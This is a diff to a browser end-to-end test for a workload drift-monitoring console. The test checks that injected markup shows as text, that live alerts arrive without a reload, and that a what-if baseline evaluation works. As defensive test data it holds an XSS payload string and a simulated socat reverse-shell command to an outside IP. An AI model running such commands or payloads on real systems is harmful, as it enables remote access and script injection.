@@ -10,6 +10,15 @@ import { packagePath } from '../../common/paths.js';
 import { AgentsTable } from '../../collector/store/agents.js';
 import { HOUR, net, proc, startHarness, workload, type Harness } from '../api/harness.js';
 
+// The browser globals the page functions below touch (the project compiles without the DOM lib).
+declare const document: {
+  getElementById(id: string): { replaceChildren(): void } | null;
+  querySelectorAll(selector: string): Iterable<{ textContent: string | null }> & { length: number };
+};
+declare const window: Record<string, unknown>;
+declare const sessionStorage: { getItem(key: string): string | null };
+declare const localStorage: { length: number };
+
 const CHROMIUM = '/usr/bin/chromium';
 const SHOTS = packagePath('docs', 'screenshots');
 const EVIL = '<script>window.__xss=1</script> "><img src=x onerror="window.__xss=2"> \u001b[31mred\u001b[0m';
@@ -124,18 +133,18 @@ t.test('the console in Chromium', { skip: existsSync(CHROMIUM) ? false : `no ${C
   t.equal(await page.inputValue('input[name=namespace]'), 'shop');
 
   // Attacker strings are text: no element, no script ran, the markup is visible as characters.
-  t.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined, 'no injected script ran');
+  t.equal(await page.evaluate(() => window.__xss), undefined, 'no injected script ran');
   t.equal(await page.locator('table.grid img').count(), 0, 'no injected element');
   const evilRow = page.locator('table.grid tbody tr', { hasText: '/tmp/.x/kworker' });
   t.match(await evilRow.textContent(), '<script>window.__xss=*</script> "><img src=x onerror="window.__xss=*">', 'the markup shows as text');
   await shot(page, 'deviations');
 
   // A new deviation arrives live, without a reload.
-  await page.evaluate(() => ((window as unknown as { __marker: number }).__marker = 42));
+  await page.evaluate(() => (window.__marker = 42));
   const now = Date.now();
   const live = h.raise(proc(workload('shop', 'web'), now, '/usr/bin/socat', 'tcp:198.51.100.9:9001 exec:/bin/sh'));
   await page.waitForSelector(`table.grid tbody tr[data-id="${live.id}"]`);
-  t.equal(await page.evaluate(() => (window as unknown as { __marker?: number }).__marker), 42, 'the page was not reloaded');
+  t.equal(await page.evaluate(() => window.__marker), 42, 'the page was not reloaded');
   t.equal(await page.locator('table.grid tbody tr').first().getAttribute('data-id'), String(live.id), 'the new row is on top');
   // One that does not match the filters does not appear.
   const quiet = h.raise(proc(workload('payments', 'ledger'), now + 1, '/usr/bin/true'));
@@ -156,7 +165,7 @@ t.test('the console in Chromium', { skip: existsSync(CHROMIUM) ? false : `no ${C
   t.match(await page.textContent('ul.tree'), '/usr/bin/containerd-shim');
   t.match(await page.textContent('ul.tree li.self'), '<script>window.__xss=1</script>');
   t.equal(await page.locator('main img').count(), 0);
-  t.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined);
+  t.equal(await page.evaluate(() => window.__xss), undefined);
   await shot(page, 'deviation');
   await page.fill('#comment', 'investigating with the shop team');
   await page.click('button[data-action=ack]');
@@ -170,6 +179,13 @@ t.test('the console in Chromium', { skip: existsSync(CHROMIUM) ? false : `no ${C
   t.ok(added.includes('n|egress|tcp|8443|ip|10.96.14.2'), `added: ${added.join(' ')}`);
   t.ok(removed.includes('p|/usr/bin/python3'), `removed: ${removed.join(' ')}`);
   await shot(page, 'baseline-diff');
+  // What-if: a stricter candidate, evaluated over the stored observations.
+  await page.click('details summary:text("What if")');
+  await page.fill('#whatif-yaml', 'apiVersion: driftwatch.dev/v1\nkind: Baseline\nmetadata: { name: strict }\nspec:\n  selector: { namespace: shop }\n  mode: replace\n  allow:\n    processes: [{ path: /app/server }]\n');
+  await page.click('details button:text("Evaluate")');
+  await page.waitForSelector('details + div[role=status] li.item, div[role=status] li.item');
+  const wouldRaise = await page.locator('div[role=status] li.item code').allTextContents();
+  t.ok(wouldRaise.includes('n|egress|tcp|8443|ip|10.96.14.2'), `what-if: ${wouldRaise.join(' ')}`);
   await page.fill('#decision-comment', 'payments client is expected in release 42');
   await page.click('button[data-action=approve]');
   await page.waitForSelector('h1 .badge.phase-approved');
